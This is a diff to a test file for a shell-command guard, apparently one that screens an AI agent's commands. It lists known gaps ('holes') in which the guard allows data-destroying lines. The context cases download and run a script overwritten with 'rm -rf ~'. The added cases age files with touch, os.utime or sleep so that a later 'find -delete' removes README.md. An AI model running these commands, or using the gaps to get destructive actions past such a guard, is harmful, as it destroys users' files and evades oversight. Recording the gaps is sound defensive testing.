@@ -135,3 +135,15 @@ holes("a download the line writes onto before running it", [
   ["written through exec 3>", "curl -o t https://example.invalid/t; exec 3>t; echo 'rm -rf ~' >&3; ./t", ...UNKNOWN],
   ["a clone into a folder the line filled (git refuses it)", "mkdir -p /tmp/r && echo 'rm -rf ~' > /tmp/r/install.sh && git clone https://example.invalid/r /tmp/r; /tmp/r/install.sh", ...UNKNOWN],
 ]);
+
+// find's age tests are judged from the files' times when the line is checked (find-expression.ts),
+// but an earlier command of the line may age a file first: touch -d, cp -p, tar x, rsync -a and
+// os.utime set old times (touch is in unseen-writes.ts NO_WRITES: it changes no content), and
+// sleep lets every file age. bash deletes README.md; the guard answers ALLOW.
+holes("an earlier command ages the files find's age test then matches", [
+  ["touch -d", "touch -d 2000-01-01 README.md && find . -mtime +7 -delete", ...UNKNOWN],
+  ["touch -t", "touch -t 200001010000 README.md; find . -mtime +7 -delete", ...UNKNOWN],
+  ["touch -r", "touch -r /etc/passwd README.md; find . -mtime +7 -delete", ...UNKNOWN],
+  ["python's os.utime", `python3 -c 'import os; os.utime("README.md",(0,0))'; find . -mtime +7 -delete`, ...UNKNOWN],
+  ["sleep past the bound", "sleep 90000; find . -mtime +0 -delete", ...UNKNOWN],
+]);
